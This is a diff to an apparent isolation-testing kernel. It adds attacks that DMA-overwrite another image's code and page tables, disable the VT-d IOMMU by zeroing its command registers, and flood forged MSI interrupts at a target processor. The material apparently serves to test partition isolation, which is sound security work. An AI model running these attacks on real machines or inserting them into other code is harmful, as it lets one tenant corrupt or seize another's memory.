@@ -1,6 +1,7 @@
 // A kernel that does one thing to others, the one that its command line names. Ends with the number of pages of
 // theirs whose secrets it has. With "blind" its page tables have nothing but what is its own.
 #include "../devices/edu.h"
+#include "../devices/vtd.h"
 #include "field.h"
 
 #define VECTOR        0x66
@@ -15,6 +16,9 @@
 #define RTC_STATUS_B  0x0b
 #define HPET_CONFIG   0xfed00010
 #define RESET_CONTROL 0xcf9
+#define IOMMU         0xfed90000
+#define UNITS         3
+#define IMAGE_SIZE    0x200000
 
 static u64 field, card, ioapic, ward_apic;
 static u32 loot;
@@ -145,11 +149,32 @@ static void dma_flood(void) {
         edu_to_memory(edu, page(i), PAGE);
 }
 
+// From the image's start on: its code, its page tables, its stacks.
+static void dma_image(void) {
+    struct edu edu = weapon();
+    for (u64 at = 0; at < IMAGE_SIZE; at += PAGE)
+        edu_to_memory(edu, field - FIELD + at, PAGE);
+}
+
+// Switch off all units of the IOMMU that there may be, and then as if there were none.
+static void unmap(void) {
+    for (u64 unit = 0; unit < UNITS; unit++)
+        probe(store32, IOMMU + unit * PAGE + VTD_COMMAND, 0);
+    dma_write();
+}
+
 static void forge(void) {
     struct edu edu = weapon();
     msi_enable(edu.function, ward_apic, VECTOR);
     edu_write(edu, EDU_RAISE, 1);
     delay_us(20);
+}
+
+static void msi_flood(void) {
+    struct edu edu = weapon();
+    msi_enable(edu.function, ward_apic, VECTOR);
+    for (u32 i = 0; i < FLOOD; i++)
+        edu_write(edu, EDU_RAISE, 1);
 }
 
 // what a processor can do to all others of some machines
@@ -170,7 +195,8 @@ static const struct { const char *name; void (*run)(void); } attacks[] = {
     { "ipi", ipi }, { "broadcast", broadcast }, { "nmi", nmi }, { "smi", smi }, { "init", init }, { "flood", flood },
     { "redirect", redirect }, { "legacy", legacy }, { "uart", uart }, { "device", device },
     { "configure", configure }, { "overlap", overlap }, { "dma-read", dma_read }, { "dma-write", dma_write },
-    { "dma-flood", dma_flood }, { "forge", forge }, { "clock", clock }, { "triple-fault", triple_fault },
+    { "dma-flood", dma_flood }, { "dma-image", dma_image }, { "unmap", unmap }, { "forge", forge },
+    { "msi-flood", msi_flood }, { "clock", clock }, { "triple-fault", triple_fault },
     { "reset", reset },
 };
 
